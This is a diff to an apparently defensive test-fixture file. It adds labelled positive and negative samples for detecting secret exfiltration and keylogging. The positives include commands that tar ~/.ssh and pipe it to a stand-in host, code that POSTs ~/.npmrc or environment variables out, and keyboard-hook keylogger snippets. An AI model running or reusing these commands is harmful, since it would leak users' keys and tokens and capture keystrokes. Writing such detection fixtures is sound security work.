@@ -36,6 +36,11 @@ export const exfiltrationExamples: FamilyExamples = {
   },
   "T08-flow-secrets": {
     positive: [
+      sh("tar czf - ~/.ssh | ssh u@unrelated-host.dev 'cat > a.tgz'"),
+      {
+        "b.js":
+          'const data = fs.readFileSync(os.homedir() + "/.npmrc");\nconst r = https.request({ hostname: "unrelated-host.dev", method: "POST" });\nr.write(data);\n',
+      },
       {
         "a.py":
           'import os, requests\nfound = {k: v for k, v in os.environ.items()}\nrequests.post("https://unrelated-host.dev/i", json=found)\n',
@@ -48,6 +53,8 @@ export const exfiltrationExamples: FamilyExamples = {
       sh("tar cz ~/.ssh | curl -T - https://unrelated-host.dev/u"),
     ],
     negative: [
+      sh("cat ~/.ssh/id_ed25519.pub | ssh u@unrelated-host.dev 'cat >> keys'"),
+      sh("ssh -i ~/.ssh/id_rsa u@unrelated-host.dev uptime"),
       {
         "a.py":
           'import os, requests\nkey = os.environ["NOTES_KEY"]\nrequests.post("https://api.notes-sync.dev", headers={"Authorization": key}, json={"a": 1})\n',
@@ -180,6 +187,18 @@ export const exfiltrationExamples: FamilyExamples = {
 };
 
 export const credentialsExamples: FamilyExamples = {
+  "T09-keys-recorded": {
+    positive: [
+      { "a.py": "from pynput import keyboard\nkeyboard.Listener(on_press=note).start()\n" },
+      { "b.py": "import keyboard\nkeyboard.hook(note)\n" },
+      { "c.ps1": "if ($api::GetAsyncKeyState($key) -eq -32767) { note $key }\n" },
+    ],
+    negative: [
+      { "a.py": "from pynput.keyboard import Controller\nController().type('hello')\n" },
+      { "b.py": "import keyboard\nkeyboard.press_and_release('ctrl+s')\n" },
+      { "c.js": "document.addEventListener('keydown', onKey);\n" },
+    ],
+  },
   "T09-password-check": {
     positive: [
       sh('dscl . -authonly "$USER" "$PW"'),
